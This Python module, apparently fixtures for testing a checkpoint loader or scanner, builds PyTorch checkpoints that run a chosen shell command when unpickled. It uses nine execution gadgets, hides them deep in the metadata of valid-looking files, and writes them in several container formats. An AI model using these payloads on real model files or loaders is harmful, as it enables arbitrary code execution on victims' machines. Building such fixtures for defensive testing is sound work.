"""Checkpoints that run code when they are unpickled."""

import io
import os
import pickle
import subprocess
import tarfile
from functools import partial

import numpy as np
import torch


class Call:
    """Pickles as a call of any function."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


GADGETS = {
    'os.system': lambda command: Call(os.system, command),
    'eval': lambda command: Call(eval, f'__import__("os").system({command!r})'),
    'exec': lambda command: Call(exec, f'__import__("os").system({command!r})'),
    'subprocess': lambda command: Call(subprocess.call, ['sh', '-c', command]),
    'getattr chain': lambda command: Call(getattr, Call(__import__, 'os'), 'system'),
    'partial': lambda command: Call(partial, eval, command),
    'nested torch.load': lambda command: Call(torch.load, io.BytesIO(pickle.dumps(Call(os.system, command)))),
    'numpy object': lambda command: Call(
        np._core.multiarray.scalar, np.dtype('O'), pickle.dumps(Call(os.system, command))
    ),
    'rebuild from type': lambda command: Call(
        torch._tensor._rebuild_from_type_v2, eval, torch.Tensor, (f'__import__("os").system({command!r})',), {}
    ),
}
RUNS_WHEN_UNPICKLED = ('os.system', 'eval', 'exec', 'subprocess')


def crafted(name, command):
    """A valid checkpoint with a gadget deep in its metadata."""
    return {
        'state_dict': {'weight': torch.zeros(2, 2), 'bias': torch.zeros(2)},
        'meta': {'notes': [1, {'x': GADGETS[name](command)}]},
    }


def write_tar(obj, path):
    """The container of torch before 0.4: a tar whose members are pickles."""
    with tarfile.open(path, 'w') as tar:
        for member in ('storages', 'tensors', 'pickle'):
            data = pickle.dumps(obj, 2)
            info = tarfile.TarInfo(member)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


WRITERS = {
    'zip': torch.save,
    'legacy': partial(torch.save, _use_new_zipfile_serialization=False),
    'protocol 4': partial(torch.save, pickle_protocol=4),
    'tar': write_tar,
    'bare pickle': lambda obj, path: path.write_bytes(pickle.dumps(obj['meta'], 2)),
}
